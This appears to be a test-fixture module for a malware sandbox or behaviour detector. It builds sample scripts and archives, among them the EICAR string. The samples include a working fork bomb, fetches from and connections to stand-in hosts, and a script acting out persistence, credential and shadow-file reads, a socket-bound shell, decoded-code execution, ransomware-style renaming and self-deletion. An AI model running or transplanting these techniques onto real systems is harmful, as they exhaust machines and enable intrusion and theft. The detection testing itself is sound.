"""Harmless samples that the tests write themselves."""

import io
import shutil
from pathlib import Path

import pyzipper

CANARY = "/var/tmp/left-behind-by-an-earlier-sample"
DROPPED = "written by the sample\n"
ZIP_PASSWORD = "infected"

DEMO = f"""#!/bin/sh
# A harmless demonstration: writes files, starts a child, reads a file, tries the network.
[ -e {CANARY} ] && echo "found what an earlier sample left" > /tmp/not-clean
echo "canary" > {CANARY}
printf 'written by the sample\\n' > /tmp/dropped.txt
(sleep 0.2; echo child > /tmp/child.txt) &
cat /etc/passwd > /dev/null
wget -q -T 2 -t 1 -O /tmp/stage2 http://192.0.2.10/stage2 || true
wait
"""

PYTHON = """#!/usr/bin/env python3
import os, socket, subprocess
with open("/tmp/from-python.bin", "wb") as target:
    target.write(bytes(range(256)))
subprocess.run(["/bin/echo", "hello from a child"], check=True)
try:
    socket.create_connection(("192.0.2.20", 4444), timeout=2)
except OSError:
    pass
"""

BOMB = """#!/usr/bin/env python3
# Takes what it can get of its machine: processes without end, and memory until there is none. Harmless to anybody else.
import os, time
held = []
for _ in range(4):
    if os.fork() == 0:
        break
else:
    while True:
        try:
            held.append(bytearray(os.urandom(1 << 20)))
        except MemoryError:
            time.sleep(0.1)
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

BEHAVIOURS = """#!/usr/bin/env python3
# Does many things that rules have a name for, each harmless, within its own guest.
import ctypes, os, shutil, socket, subprocess
HOME = os.path.expanduser("~")

def write(path):
    for _ in range(2):
        try:
            with open(path, "w") as file:
                file.write("# nothing")
            return
        except FileNotFoundError:
            try:
                os.makedirs(os.path.dirname(path))
            except OSError:
                return
        except OSError:
            return

def read(path):
    try:
        with open(path, "rb") as file:
            file.read(1)
    except OSError:
        pass

def run(*argv, **others):
    try:
        subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **others)
    except OSError:
        pass

def child(function):
    if os.fork() == 0:
        try:
            function()
        finally:
            os._exit(0)
    os.wait()

for path in (".config/systemd/user/a.service", ".bashrc", ".ssh/authorized_keys", ".config/autostart/a.desktop"):
    write(HOME + "/" + path)
for path in ("/etc/cron.d/a", "/etc/ld.so.preload", "/etc/rc.local", "/etc/udev/rules.d/a.rules", "/tmp/.hidden"):
    write(path)
for path in ("/etc/shadow", "/sys/class/dmi/id/product_name", HOME + "/.ssh/id_rsa", "/proc/1/environ"):
    read(path)
read(HOME + "/.mozilla/firefox/a.default/logins.json")
write("/tmp/old")
os.utime("/tmp/old", (1262304000, 1262304000))
ctypes.CDLL(None).prctl(15, b"[kworker/0:1]", 0, 0, 0)
shutil.copyfile("/bin/true", "/tmp/dropped-program")
os.chmod("/tmp/dropped-program", 0o755)
run("/tmp/dropped-program")
os.remove("/tmp/dropped-program")
shutil.copyfile("/bin/true", "/tmp/setuid-program")
os.chmod("/tmp/setuid-program", 0o4755)
memory = os.memfd_create("x")
with open("/bin/true", "rb") as file:
    os.write(memory, file.read())
child(lambda: os.execve(f"/proc/self/fd/{memory}", ["x"], {}))
for number in range(60):
    write(f"{HOME}/documents/{number}.odt")
    os.rename(f"{HOME}/documents/{number}.odt", f"{HOME}/documents/{number}.odt.locked")
write(HOME + "/HOW_TO_DECRYPT.txt")
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_STREAM, 0)):
    try:
        with socket.socket(socket.AF_INET, kind, protocol) as there:
            there.settimeout(1)
            there.connect(("192.0.2.1", 6667))
    except OSError:
        pass
listener = socket.create_server(("127.0.0.1", 4321))
connected = socket.create_connection(("127.0.0.1", 4321))

def shell():
    for stream in (0, 1, 2):
        os.dup2(connected.fileno(), stream)
    os.execv("/bin/sh", ["sh", "-c", "true"])

child(shell)
run("uname", "-a")
run("/bin/true", env={"LD_PRELOAD": "/tmp/none.so"})
run("sh", "-c", "echo dHJ1ZQ== | base64 -d | sh")
run("sh", "-c", "unset HISTFILE; grep -c hypervisor /proc/cpuinfo")
os.remove(os.path.abspath(__file__))
"""
BEHAVIOURS_FOUND = frozenset(
    {
        *("systemd_persistence", "shell_profile_persistence", "ssh_key_persistence", "autostart_persistence"),
        *("cron_persistence", "preload_hijack", "boot_script_persistence", "udev_persistence", "hidden_program"),
        *("password_hashes_read", "keys_and_tokens_read", "browser_stores_read", "virtual_machine_check"),
        *("sandbox_check", "timestomp", "name_of_a_kernel_thread", "runs_what_it_wrote", "writes_allows_runs"),
        *("runs_from_a_writable_place", "deleted_after_start", "rights_given_on", "program_in_memory"),
        *("runs_from_memory", "many_files_rewritten", "many_files_renamed", "ransom_note", "raw_socket"),
        *("network_attempt", "unusual_port", "listens", "socket_as_standard_stream", "system_discovery"),
        *("preload_environment", "runs_decoded_code", "history_switched_off", "spawns_shell", "deletes_itself"),
    }
)
"""The rules that the sample above is an example of, all at once."""

ORDINARY = """#!/bin/sh
# What a harmless script does: it looks at its own files and writes one.
ls -l "$HOME" > "$HOME/listing.txt"
wc -l "$HOME/listing.txt"
date
"""


def eicar() -> bytes:
    """The EICAR test string, put together here so that no file of the project holds it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def write(path: Path, content: str | bytes) -> Path:
    """The file holds the content."""
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def eicar_zip(path: Path) -> Path:
    """A zip, encrypted with the customary password, of the EICAR string and a text."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(ZIP_PASSWORD.encode())
        archive.writestr("readme.txt", b"nothing to see\n")
        archive.writestr("eicar.com", eicar())
    return write(path, buffer.getvalue())


def debian_elf(path: Path) -> Path:
    """A program of Debian's: `id`, under another name."""
    shutil.copyfile("/usr/bin/id", path)
    return path


def corrupted_elf(path: Path) -> Path:
    """An ELF header with nothing behind it that could run."""
    content = bytearray(Path("/usr/bin/id").read_bytes()[:4096])
    content[18] = 0xF7  # e_machine of no machine we have
    return write(path, bytes(content))


def several(path: Path) -> Path:
    """A ZIP archive of two scripts, one of which holds the EICAR string, a nested archive, a text and a duplicate."""
    inner = io.BytesIO()
    with pyzipper.AESZipFile(inner, "w") as archive:
        archive.writestr("inner.py", PYTHON)
    first = b"#!/bin/sh\n# " + eicar() + b"\ntrue\n"
    with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED) as archive:
        archive.writestr("first.sh", first)
        archive.writestr("bin/second.sh", "#!/bin/sh\n/bin/echo second\n")
        archive.writestr("inner.zip", inner.getvalue())
        archive.writestr("readme.txt", "nothing to run\n")
        archive.writestr("again.sh", first)
    return path
